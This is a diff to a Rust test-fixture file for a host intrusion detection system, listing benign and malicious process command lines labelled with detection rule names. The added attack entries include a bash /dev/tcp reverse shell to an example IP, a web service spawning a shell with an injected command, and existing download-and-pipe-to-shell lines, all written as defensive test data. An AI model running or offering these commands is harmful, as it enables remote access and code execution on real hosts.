@@ -43,6 +43,9 @@ pub const BENIGN: &[Command] = &[
     // Rotated logs cleaned up; PHP's mail() through sendmail.
     c("/usr/bin/rm", "rm -f /var/log/syslog.1 /var/log/messages-20240101 /var/log/auth.log.2.gz", BASH, LOGIN),
     c(DASH, "sh -c /usr/sbin/sendmail -t -i", "/usr/sbin/php-fpm8.2", "php-fpm: pool www"),
+    c(BASH, "bash -c curl -s localhost:9200/_cat/health | python3 -m json.tool", BASH, LOGIN),
+    c(DASH, "/bin/sh /var/tmp/rpm-tmp.Xa81bQ 1", "/usr/bin/rpm", "rpm -Uvh pkg.rpm"),
+    c(BASH, "bash -c 'cat /dev/null > /var/log/syslog.1'", BASH, LOGIN),
     c("/usr/bin/ls", "ls -l", BASH, LOGIN),
     c("/usr/bin/ls", "ls -la /etc/nginx/sites-enabled", BASH, LOGIN),
     c("/usr/bin/ps", "ps aux", BASH, LOGIN),
@@ -157,6 +160,9 @@ const WWW: &str = "/usr/sbin/nginx";
 const WWW_CMD: &str = "nginx: worker process";
 
 pub const ATTACKS: &[Attack] = &[
+    a("hids-linux-reverse-shell-bash-dev-tcp", Level::Critical, c(BASH, "bash -c 'exec 3</dev/tcp/203.0.113.7/80; sh <&3 >&3 2>&3'", BASH, LOGIN)),
+    a("hids-linux-service-spawns-shell", Level::High, c(DASH, "sh -c id; #sendmail", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")),
+    a("hids-linux-script-from-writable", Level::Medium, c(DASH, "sh /tmp/x.sh /tmp/go-build1/", BASH, LOGIN)),
     a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c curl -s 'http://203.0.113.7/i?a=1&b=2' | sh", BASH, LOGIN)),
     a("hids-linux-download-piped-to-shell", Level::High, c(DASH, "sh -c wget -qO- http://203.0.113.7/x.py | python3", BASH, LOGIN)),
     a("hids-linux-script-from-writable", Level::Medium, c(DASH, "sh /tmp/.x/install.sh", BASH, LOGIN)),
